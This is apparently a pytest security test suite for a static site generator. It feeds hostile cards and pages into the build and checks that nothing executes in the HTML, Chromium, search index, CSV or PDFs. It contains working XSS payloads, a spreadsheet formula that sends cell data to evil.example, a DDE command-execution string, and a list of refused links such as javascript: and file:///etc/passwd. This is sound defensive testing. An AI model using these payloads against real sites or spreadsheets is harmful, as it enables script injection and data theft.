"""Untrusted content never becomes code: hostile cards, pages and site texts, built for real.

Everything under data/ and content/ is untrusted. The payloads below pass ``check`` (they are
text, not links or files check refuses) and are then looked for in the built HTML (parsed), in
Chromium (where execution matters), in the search index, the sitemap, the CSV and the PDFs
(read with pikepdf).
"""

from __future__ import annotations

import csv
import json
import xml.etree.ElementTree as ElementTree
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pikepdf
import pytest
import yaml
from conftest import serving
from portfolios import make_project
from pypdf import PdfReader

from factsheets.problems import InvalidInput
from factsheets.publish import build_site
from factsheets.render import markdown_to_html
from factsheets.validate import load_portfolio

MARK = "pwned"
"""Every payload sets ``window.__pwned`` or adds an element with ``data-pwned``: proof that it ran."""
SCRIPT = f"<script>window.__{MARK}=1;alert('{MARK}')</script>"
IMG = f'<img src=x onerror="window.__{MARK}=1" data-{MARK}>'
QUOTES = f'"\'><svg onload="window.__{MARK}=1" data-{MARK}>'
HOSTILE_TEXT = f"</title>{SCRIPT}{IMG}{QUOTES} ]]> <!-- &amp;"
HOSTILE_MARKDOWN = f"""\
{SCRIPT}
{IMG} <iframe src="https://evil.example/"></iframe>
<form action="https://evil.example/"><input name=q></form> <object data="x.swf"></object>
<style>body {{ display: none }}</style> <a href="https://example.org/" onclick="window.__{MARK}=1">raw</a>
A [safe link](https://example.org/safe) {{: onmouseover="window.__{MARK}=1" }}
"""
HOSTILE_PAGE = f"""\
---
title: {json.dumps(HOSTILE_TEXT)}
description: {json.dumps(QUOTES)}
---

# Heading {IMG} {{: onclick="window.__{MARK}=1" }}

{HOSTILE_MARKDOWN}

## Second {{#x onclick=window.__{MARK}=1}}

<div markdown="1" onclick="window.__{MARK}=1">*x*</div>

[home](index.md) and [a card](projecten/atmp.md)
"""
FORMULA_TITLE = '=HYPERLINK("https://evil.example/?"&A1,"Click")'


# --- the hostile portfolio ---------------------------------------------------------------------


def _edit_yaml(path: Path, change: Any) -> None:
    data = yaml.safe_load(path.read_text(encoding="utf-8"))
    change(data)
    path.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False), encoding="utf-8")


def _hostile_card(card: dict[str, Any]) -> None:
    card["title"] = {"nl": HOSTILE_TEXT, "en": f"{SCRIPT} title"}
    card["summary"] = {"nl": HOSTILE_MARKDOWN, "en": HOSTILE_MARKDOWN}
    card["organisations"][0]["name"] = f'<b onmouseover="window.__{MARK}=1">Org</b>{QUOTES}'


def _formula_card(card: dict[str, Any]) -> None:
    card["title"] = {"nl": FORMULA_TITLE, "en": "@SUM(1+1)*cmd|' /C calc'!A0"}


def _hostile_settings(site: dict[str, Any]) -> None:
    for key in ("name", "tagline", "description", "publisher"):
        site[key] = {code: f"{key} {HOSTILE_TEXT}" for code in site["languages"]}
    for key in ("overview", "projects", "domains", "not_found_title", "not_found_text", "open_data_csv"):
        site["labels"][key] = {code: f"{key} {HOSTILE_TEXT}" for code in site["languages"]}


@pytest.fixture(scope="module")
def hostile_project(tmp_path_factory: pytest.TempPathFactory) -> Path:
    project = make_project(tmp_path_factory.mktemp("hostile") / "project")
    _edit_yaml(project / "data" / "cards" / "atmp.yml", _hostile_card)
    _edit_yaml(project / "data" / "cards" / "infectieziekten.yml", _formula_card)
    _edit_yaml(project / "data" / "site.yml", _hostile_settings)
    for code in ("nl", "en"):
        (project / "content" / code / "over.md").write_text(HOSTILE_PAGE, encoding="utf-8")
    return project


@pytest.fixture(scope="module")
def hostile_site(hostile_project: Path, pdf_cache: Path) -> Path:
    out = hostile_project.parent / "site"
    build_site(load_portfolio(hostile_project / "data", hostile_project), hostile_project, out, pdf_cache)
    return out


class Collector(HTMLParser):
    """Every element with its attributes, the text inside <script> elements, and all other text; JSON data
    blocks (JSON-LD, the form editor's settings) apart: they are never run, and what matters is that text in
    them cannot end their element."""

    def __init__(self) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.scripts: list[str] = []
        self.data_blocks: list[str] = []
        self.text: list[str] = []
        self._in_script = False
        self._in_data = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))
        self._in_data = tag == "script" and dict(attrs).get("type") in ("application/ld+json", "application/json")
        self._in_script = tag == "script" and not self._in_data

    def handle_endtag(self, tag: str) -> None:
        self._in_script = self._in_data = False

    def handle_data(self, data: str) -> None:
        (self.scripts if self._in_script else self.data_blocks if self._in_data else self.text).append(data)


def _parsed(page: Path) -> Collector:
    collector = Collector()
    collector.feed(page.read_text(encoding="utf-8"))
    return collector


def _pages(site: Path) -> list[Path]:
    return sorted(site.rglob("*.html"))


# --- the built HTML ---------------------------------------------------------------------------


def test_the_hostile_texts_pass_check_so_they_reach_the_build(hostile_site):
    assert (hostile_site / "over" / "index.html").is_file() and (hostile_site / "en" / "over" / "index.html").is_file()


def test_no_payload_becomes_an_element_a_handler_or_a_script_on_any_page(hostile_site):
    pages = _pages(hostile_site)
    assert len(pages) > 10
    for page in pages:
        collector = _parsed(page)
        assert not [script for script in collector.scripts if MARK in script], page
        assert not [block for block in collector.data_blocks if "</script" in block.lower()], page
        for tag, attrs in collector.elements:
            assert not [name for name in attrs if name.startswith("on")], f"{page}: <{tag} {attrs}>"
            assert f"data-{MARK}" not in attrs, f"{page}: <{tag} {attrs}>"
            for name in ("href", "src", "action", "data"):
                value = (attrs.get(name) or "").strip().lower()
                assert not value.startswith(("javascript:", "data:")), f"{page}: <{tag} {name}={value}>"
            assert tag not in {"iframe", "object", "embed"}, f"{page}: <{tag}>"


def test_the_payloads_show_as_the_text_they_are(hostile_site):
    card = " ".join(_parsed(hostile_site / "projecten" / "atmp" / "index.html").text)
    assert SCRIPT in card and IMG in card  # the card's title and summary, shown as text
    page = _parsed(hostile_site / "over" / "index.html")
    text = " ".join(page.text)
    assert SCRIPT in text and "{: onmouseover=" in text and '<div markdown="1"' in text
    headings = [attrs.get("id") for tag, attrs in page.elements if tag == "h2"]
    assert "second-x-onclickwindow__pwned1" in headings or any(h and h.startswith("second") for h in headings)


def test_links_within_the_site_in_a_page_point_at_the_pages(hostile_site):
    links = {attrs.get("href") for tag, attrs in _parsed(hostile_site / "over" / "index.html").elements if tag == "a"}
    assert {"../", "../projecten/atmp/", "https://example.org/safe"} <= links


def test_the_site_texts_in_the_not_found_page_and_footer_are_text(hostile_site):
    for page in (hostile_site / "404.html", hostile_site / "en" / "404.html", hostile_site / "index.html"):
        collector = _parsed(page)
        assert not [script for script in collector.scripts if MARK in script]
        assert f"tagline {HOSTILE_TEXT}" in " ".join(collector.text), page
    assert f"not_found_text {HOSTILE_TEXT}" in " ".join(_parsed(hostile_site / "404.html").text)


def test_the_sitemap_stays_xml(hostile_site):
    root = ElementTree.parse(hostile_site / "sitemap.xml").getroot()
    locations = [element.text for element in root.iter("{http://www.sitemaps.org/schemas/sitemap/0.9}loc")]
    assert locations and all(location.startswith("https://") for location in locations)


def test_the_search_index_holds_the_payloads_only_as_escaped_text(hostile_site):
    raw = (hostile_site / "search" / "search_index.json").read_text(encoding="utf-8")
    documents = json.loads(raw)["docs"]
    assert any("&lt;script&gt;" in document["text"] or "&lt;script&gt;" in document["title"] for document in documents)
    for document in documents:
        for field in ("title", "text"):
            assert "<script" not in document[field] and "<img" not in document[field] and "<svg" not in document[field]


# --- in Chromium ------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def hostile_url(hostile_site: Path) -> Iterator[str]:
    with serving(hostile_site) as url:
        yield url


MOUSE_OVER_EVERYTHING = """() => document.querySelectorAll('*').forEach(
    e => ['mouseover', 'mouseenter', 'focus'].forEach(type => e.dispatchEvent(new Event(type, {bubbles: true}))))"""
INJECTED = f"""() => ({{
    ran: window.__{MARK} !== undefined,
    elements: [...document.querySelectorAll('[data-{MARK}], iframe, object, embed')].map(e => e.outerHTML),
    handlers: [...document.querySelectorAll('*')]
        .filter(e => [...e.attributes].some(a => a.name.startsWith('on')))
        .map(e => e.outerHTML.slice(0, 120)),
}})"""


CLEAN = {"ran": False, "elements": [], "handlers": []}


def _browse(browser: Any, url: str, paths: list[str]) -> dict[str, Any]:
    """What Chromium saw on each page and after a search: injected elements, dialogs, errors."""
    seen: dict[str, Any] = {"events": []}
    context = browser.new_context()
    try:
        page = context.new_page()
        page.on("dialog", lambda dialog: (seen["events"].append(f"dialog {dialog.message}"), dialog.dismiss()))
        page.on("pageerror", lambda error: seen["events"].append(f"error {error}"))
        for path in paths:
            page.goto(url + path)
            page.wait_for_load_state("networkidle")
            page.evaluate(MOUSE_OVER_EVERYTHING)
            seen[path] = page.evaluate(INJECTED)
        page.goto(url)
        page.locator(".md-search__input").click()
        page.locator(".md-search__input").press_sequentially("safe", delay=50)  # the hostile card and page
        page.locator(".md-search-result__item").first.wait_for(timeout=15_000)
        seen["results"] = page.locator(".md-search-result__item").count()
        page.evaluate(MOUSE_OVER_EVERYTHING)
        seen["search"] = page.evaluate(INJECTED)
    finally:
        context.close()
    return seen


@pytest.mark.browser
def test_in_chromium_no_payload_runs_on_any_page_or_in_search(browser, hostile_site, hostile_url):
    paths = [path.relative_to(hostile_site).as_posix() for path in _pages(hostile_site)]
    seen = _browse(browser, hostile_url, paths)
    assert {path: seen[path] for path in paths} == dict.fromkeys(paths, CLEAN)
    assert seen["results"] >= 2 and seen["search"] == CLEAN
    assert seen["events"] == []


# --- the open data ----------------------------------------------------------------------------


def test_csv_cells_that_a_spreadsheet_would_run_start_with_an_apostrophe(hostile_site):
    rows = list(csv.DictReader((hostile_site / "portfolio.csv").read_text(encoding="utf-8").splitlines()))
    row = next(row for row in rows if row["id"] == "infectieziekten")
    assert row["title_nl"] == "'" + FORMULA_TITLE
    assert row["title_en"].startswith("'@")
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row.values())
    manifest = json.loads((hostile_site / "portfolio.json").read_text(encoding="utf-8"))
    card = next(card for card in manifest["cards"] if card["id"] == "infectieziekten")
    assert card["title"]["nl"] == FORMULA_TITLE  # the JSON keeps the text as it is


# --- the PDFs ---------------------------------------------------------------------------------


def _link_targets(pdf: pikepdf.Pdf) -> Iterator[pikepdf.Dictionary]:
    for page in pdf.pages:
        for annotation in page.obj.get("/Annots", []):
            assert "/AA" not in annotation, "an annotation with additional actions"
            if "/A" in annotation:
                yield annotation.A


def test_the_pdfs_carry_only_absolute_web_links_and_no_scripts(hostile_site):
    uris: list[str] = []
    for path in sorted((hostile_site / "pdf").glob("*.pdf")):
        with pikepdf.open(path) as pdf:
            assert "/OpenAction" not in pdf.Root or pdf.Root.OpenAction.get("/S") != "/JavaScript", path
            assert "/JavaScript" not in pdf.Root.get("/Names", {}), path
            assert "/AA" not in pdf.Root, path
            for action in _link_targets(pdf):
                assert action.S in ("/URI", "/GoTo"), f"{path}: action {action.S}"
                if action.S == "/URI":
                    uris.append(str(action.URI))
    assert "https://example.org/safe" in uris  # the card's own link is there: the check above saw links
    assert all(uri.startswith(("https://", "http://", "mailto:")) for uri in uris), sorted(set(uris))


def test_the_pdf_carries_the_hostile_title_as_text(hostile_site):
    text = " ".join(PdfReader(hostile_site / "pdf" / "atmp.nl.pdf").pages[0].extract_text().split())
    assert "window.__pwned=1" in text


# --- what check refuses -----------------------------------------------------------------------

REFUSED_LINKS = [
    "javascript:alert(1)",
    "/etc/passwd",
    "//evil.example/x",
    "../secret",
    "file:///etc/passwd",
    "data:text/html,x",
    "#top",
    "JaVaScRiPt:alert(1)",
]


@pytest.mark.parametrize("link", REFUSED_LINKS)
def test_check_refuses_a_card_link_a_sheet_cannot_carry(tmp_path, link):
    project = make_project(tmp_path / "project")
    _edit_yaml(
        project / "data" / "cards" / "atmp.yml",
        lambda card: card["relevance"].update(nl=f"See [this]({link}) and [that][r].\n\n[r]: {link}\n"),
    )
    with pytest.raises(InvalidInput) as raised:
        load_portfolio(project / "data", project)
    [problem] = raised.value.problems
    assert problem.file == "data/cards/atmp.yml" and problem.field == "relevance"
    assert "is not allowed: use a full web address" in problem.message


@pytest.mark.parametrize("link", REFUSED_LINKS)
def test_the_renderer_drops_such_links_too(link):
    html = markdown_to_html(f"[one]({link}) [two][r]\n\n[r]: {link}")
    assert "href" not in html and "one" in html and "two" in html
